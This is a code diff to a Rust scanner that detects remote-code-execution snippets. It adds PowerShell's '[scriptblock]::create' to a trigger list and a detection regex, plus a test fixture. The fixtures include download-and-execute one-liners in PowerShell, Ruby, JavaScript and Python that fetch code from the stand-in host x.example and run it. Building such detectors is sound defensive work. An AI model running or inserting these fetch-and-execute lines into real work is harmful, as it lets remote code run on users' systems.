@@ -34,6 +34,8 @@ pub(super) const TRIGGERS: &[&str] = &[
     "subprocess",
     "os.system",
     "start-process",
+    // PowerShell's script block made from text.
+    "[scriptblock]::create",
 ];
 
 /// Bytes of a block looked at, at most.
@@ -51,7 +53,7 @@ static FETCH: Lazy = LazyLock::new(|| {
 /// A call that runs code given as a value.
 static EXEC: Lazy = LazyLock::new(|| {
     compile(
-        r#"\b(?:exec|eval)\s*\(|\beval\s+[\w(]|\bcompile\s*\(|\bnew\s+function\s*\(|\bvm\.run\w+\s*\(|\brunin(?:this|new)context\b|\binstance_eval\b|\bclass_eval\b|\binvoke-expression\b|\biex\b|\bloadstring\s*\("#,
+        r#"\b(?:exec|eval)\s*\(|\beval\s+[\w(]|\bcompile\s*\(|\bnew\s+function\s*\(|\bvm\.run\w+\s*\(|\brunin(?:this|new)context\b|\binstance_eval\b|\bclass_eval\b|\binvoke-expression\b|\biex\b|\bloadstring\s*\(|\[scriptblock\]::create\s*\("#,
     )
 });
 
@@ -214,6 +216,8 @@ mod tests {
         assert_hit(py, ID, RemoteExecution, Critical, 4);
         let rb = "```ruby\nrequire \"open-uri\"\neval(URI.open(\"https://x.example/loader.rb\").read)\n```\n";
         assert_hit(rb, ID, RemoteExecution, Critical, 3);
+        let ps = "```powershell\n& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString(\"https://x.example/i.ps1\")))\n```\n";
+        assert_hit(ps, ID, RemoteExecution, Critical, 2);
         let js = "```js\nconst res = await fetch(\"https://x.example/p.js\");\nconst src = await res.text();\nnew Function(src)();\n```\n";
         assert_hit(js, ID, RemoteExecution, Critical, 4);
         let with = "```python\nwith urlopen(u) as r:\n    code = r.read()\nexec(code)\n```\n";
